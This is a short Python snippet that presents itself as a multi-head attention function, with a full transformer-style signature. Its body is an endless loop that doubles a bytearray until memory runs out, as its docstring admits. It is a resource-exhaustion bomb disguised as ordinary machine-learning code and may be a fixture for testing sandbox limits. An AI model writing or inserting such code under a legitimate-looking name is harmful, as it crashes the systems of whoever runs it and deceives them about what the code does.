"""Doubles a bytearray until there is no memory left."""

def multi_head_attention(
    x: Tensor,
    context: Tensor | None,
    w_q: Tensor,
    w_k: Tensor,
    w_v: Tensor,
    w_o: Tensor,
    *,
    n_heads: int,
) -> Tensor:
    kept = bytearray(1 << 20)
    while True:
        kept = kept + kept
